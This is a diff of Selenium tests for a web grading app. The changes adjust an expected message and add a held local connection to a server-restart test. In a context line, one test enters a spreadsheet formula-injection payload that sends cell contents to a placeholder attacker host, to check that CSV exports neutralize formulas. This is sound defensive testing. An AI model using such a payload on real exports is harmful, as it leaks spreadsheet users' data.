@@ -363,7 +363,7 @@ def test_next_ungraded_and_unsaved_picks_warn_before_leaving(graded_class, serve
 def test_the_export_neutralizes_formulas_and_a_rebound_host_is_refused(graded_class, server, browser):
     from selenium.webdriver.common.by import By
     browser.get(server + "/grade/vanishing_gradients/eve")
-    assert browser.find_element(By.ID, "missing").text.startswith("No answer: no answer: the cells under the heading")
+    assert browser.find_element(By.ID, "missing").text.startswith("No answer: nothing written: the cells under the heading")
     browser.find_element(By.ID, "comment").send_keys('=HYPERLINK("http://evil.example/?"&A1,"see")')
     browser.find_element(By.ID, "save-stay").click()
     shows(browser, "graded-by", "graded by ta2")
@@ -472,6 +472,9 @@ def test_two_graders_log_in_from_two_browsers(graded_class, browsers, browser, t
         browser.find_element(By.ID, "logout").click()
         browser.get(url + "/export.csv")
         assert "/login" in browser.current_url
+        held = socket.create_connection(("127.0.0.1", port))  # a browser's kept-alive connection: stopping the
+        held.sendall(f"GET /login HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\n\r\n".encode())  # server closes it
+        assert held.recv(100).startswith(b"HTTP/1.1 200")  # first, which leaves its port in TIME_WAIT
     finally:
         stop(process)
     # Stopped and started again on the same port at once (a port in TIME_WAIT is reused).
@@ -480,4 +483,5 @@ def test_two_graders_log_in_from_two_browsers(graded_class, browsers, browser, t
         assert request(f"http://127.0.0.1:{port}/login")[0] == 200
     finally:
         stop(again)
+        held.close()
 
